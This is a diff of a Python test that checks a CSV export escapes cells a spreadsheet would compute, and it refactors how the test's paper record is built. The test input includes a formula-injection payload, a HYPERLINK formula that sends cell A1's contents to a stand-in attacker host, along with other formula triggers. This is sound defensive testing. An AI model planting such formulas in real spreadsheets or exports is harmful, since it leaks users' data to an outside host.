@@ -91,10 +91,9 @@ def test_csv_gives_back_what_went_in(title: str, text: str) -> None:
 
 def test_csv_cells_that_a_spreadsheet_would_compute_are_text() -> None:
     link = '=HYPERLINK("http://evil.example?x="&A1,"Click")'
-    names = ("+Ada", "Bo")
-    held = paper(
-        title=link, authors=names, venue="@SUM(1)", category="-1+1", text="\t=1", score=-0.5
-    )
+    people = (Authorship("p1", "+Ada", "first", 1), Authorship("p1", "Bo", "listed", 2))
+    texts = {"venue": "@SUM(1)", "category": "-1+1", "text": "\t=1"}
+    held = paper(title=link, authorships=people, authors_complete=True, score=-0.5, **texts)
     row = next(csv.DictReader(io.StringIO(to_csv([held]))))
     assert row["title"] == f"'{link}"
     assert row["authors"] == "'+Ada; Bo"
